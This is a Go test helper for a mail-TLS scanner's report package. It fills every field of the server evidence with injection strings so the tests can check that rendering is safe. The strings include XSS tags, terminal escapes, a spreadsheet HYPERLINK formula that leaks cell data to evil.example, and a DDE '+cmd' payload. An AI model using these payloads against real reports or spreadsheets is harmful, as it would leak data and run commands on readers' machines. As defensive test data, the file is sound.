package report

import (
	"testing"

	"github.com/mailtls/mailtls/evidence"
)

// nasty is what a server may say to harm whoever reads or parses a report: in a terminal, a page, a feed, a table, a log.
const nasty = "\x1b[2J\x1b]0;owned\a</script><script>alert(1)</script><img src=x onerror=alert(2)>]]><!-- \"quoted\", 'single'; a,b\r\nsecond line\ttab\u202e\u2028\x00\xff&amp;{{.}}|x=1"

// formula begins as what spreadsheets compute.
const formula = "=HYPERLINK(\"http://evil.example/?\"&A1)"

// hostile returns the evidence of a server all of whose text is nasty.
func hostile(t testing.TB) *evidence.Endpoint {
	t.Helper()
	e := weak(t)
	e.Target.Input, e.Target.Host, e.Target.ServerName = "imap://"+nasty, formula+nasty, nasty
	e.Source = nasty
	e.Ended = "the server said: " + nasty
	f := &e.Facts
	f.Greeting = known("* OK " + nasty)
	f.Capabilities = known(evidence.Capabilities{Listed: true, Names: []string{nasty, "+cmd|' /C calc'!A0"}, AuthMechanisms: []string{"@SUM(1)" + nasty}})
	f.ALPN = known(nasty)
	f.Stapled = evidence.Fact[bool]{State: evidence.Unknown, Why: nasty}
	f.Revocation = known([]evidence.Revocation{{Certificate: "leaf", Failed: []evidence.Inquiry{{By: "OCSP", URL: nasty, Why: nasty}}}})
	f.Lint = known([]evidence.Lint{{Certificate: nasty, Name: nasty, Level: "error", Citation: nasty, Text: nasty, Detail: nasty}})
	f.Compression.State, f.Compression.Why = evidence.Unknown, formula+nasty
	c := e.Blobs.Certificates["leaf"]
	c.Subject.CommonName, c.Names.DNS = formula+nasty, []string{formula, nasty, "-2+3", "\tx"}
	c.Issuer.CommonName, c.Issuer.Organization = nasty, nasty
	c.Problems = []string{nasty}
	c.PublicKey.Algorithm, c.PublicKey.Curve = nasty, nasty
	return e
}
